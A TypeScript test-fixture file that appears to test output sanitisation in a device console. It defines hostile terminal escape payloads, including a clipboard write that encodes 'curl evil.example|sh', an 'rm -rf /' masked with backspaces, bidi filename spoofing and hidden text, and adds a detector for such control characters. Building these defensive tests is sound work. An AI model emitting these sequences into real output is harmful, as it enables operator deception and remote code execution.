// The hostile-gateway fixtures: strings a compromised gateway (or anything on a serial line) could
// put into every text field it sends, each one a terminal control sequence that would rewrite what
// the operator sees or reach outside the terminal, and a checker for terminal output.
import { loadStatus } from './console-fixtures.js';
import type { GatewayStatus } from '../../src/core/status/schema.js';

/** One of each: named so a failure says which sequence got through. */
export const PAYLOADS = {
  osc0Title: '\x1b]0;PWNED-TITLE\x07',
  osc52Clipboard: '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\x07',
  osc8Link: '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\',
  sgr8Hidden: '\x1b[8mHIDDEN\x1b[0m',
  csi2jClear: '\x1b[2J\x1b[H',
  cursorUp: '\x1b[5A\x1b[2K',
  carriageReturn: 'bad\rGOOD',
  backspace: 'rm -rf /\b\b\b\b\b\b\b\bls     ',
  c1Csi: '\u009b2J',
  c1Osc: '\u009d0;C1-TITLE\u009c',
  dcs: '\x1bP1$qm\x1b\\',
  bidiOverride: 'invoice\u202egnp.exe',
  bidiIsolate: '\u2066admin\u2069',
  del: 'a\x7fb',
  nul: 'a\x00b',
  newline: 'one\nrk64: fake error line',
} as const;

/** All payloads in one string (every field of the hostile document carries all of them). */
export const ALL = Object.values(PAYLOADS).join('|');

/** The recorded healthy document with every gateway string replaced by hostile text. */
export function hostileStatus(): GatewayStatus {
  const s = loadStatus('healthy');
  const h = (label: string) => `${label}${ALL}`;
  const slots = s.rauc?.slots ?? [];
  return {
    ...s,
    hostname: h('host'),
    versions: { os: h('os'), bundle: h('bundle'), kernel: h('kernel'), rk64: h('rk64') },
    rauc: s.rauc && {
      ...s.rauc,
      compatible: h('compatible'),
      slots: slots.map((slot) => ({
        ...slot,
        bundleVersion: h('slotbundle'),
        devices: { [h('devkey')]: h('devpath') },
      })),
    },
    bootState: s.bootState && { ...s.bootState, order: [h('order'), 'A'] },
    watchdog: s.watchdog && { ...s.watchdog, device: h('wddev'), identity: h('wdid') },
    links: (s.links ?? []).map((l) => ({
      ...l,
      name: h('link'),
      state: h('state'),
      addresses: [h('addr')],
    })),
    leases: [{ mac: h('mac'), ip: h('ip'), hostname: h('leasehost'), expiresAt: h('expires') }],
    health: { state: 'failed', updatedAt: h('updated'), detail: h('healthdetail') },
    errors: [{ field: h('errfield'), reason: h('errreason') }],
  };
}

/** What rk64-action prints on a failed install from a hostile gateway (JSON lines). */
export function hostileInstallEvents(): string {
  return (
    [
      { event: 'progress', percent: 10, message: `rauc progress ${ALL}` },
      { event: 'result', ok: false, message: `rauc result ${ALL}` },
    ]
      .map((e) => JSON.stringify(e))
      .join('\n') + '\n'
  );
}

/** Every payload but the newline: for the one line of a message the console shows. */
export const ONE_LINE = Object.entries(PAYLOADS)
  .filter(([name]) => name !== 'newline')
  .map(([, text]) => text)
  .join('|');

/** Remote stderr of a failed command from a hostile gateway (the console shows its last line). */
export const HOSTILE_STDERR = `first line\nrk64-action: refused ${ONE_LINE}\n`;

const CONTROL =
  // eslint-disable-next-line no-control-regex -- finding control characters is the point
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/**
 * Why `text` (terminal output) is unsafe, or null: any C0 (except newline), DEL, C1 or bidi
 * control. With `allowSgr`, ESC may start an SGR colour sequence (`ESC [ … m`), but never SGR 8
 * (hidden text).
 */
export function unsafeTerminalText(text: string, options: { allowSgr?: boolean } = {}): string | null {
  let rest = text;
  if (options.allowSgr) {
    // eslint-disable-next-line no-control-regex -- SGR sequences are allowed, one by one
    for (const match of text.matchAll(/\x1b\[([0-9;:]*)m/g)) {
      const params = (match[1] ?? '').split(/[;:]/);
      if (params.includes('8')) return `SGR 8 (hidden) at ${match.index}`;
    }
    // eslint-disable-next-line no-control-regex -- SGR sequences are allowed
    rest = text.replace(/\x1b\[[0-9;:]*m/g, '');
  }
  const found = CONTROL.exec(rest);
  if (!found) return null;
  const at = found.index;
  return `raw U+${found[0].charCodeAt(0).toString(16).padStart(4, '0')} in ${JSON.stringify(rest.slice(Math.max(0, at - 30), at + 30))}`;
}
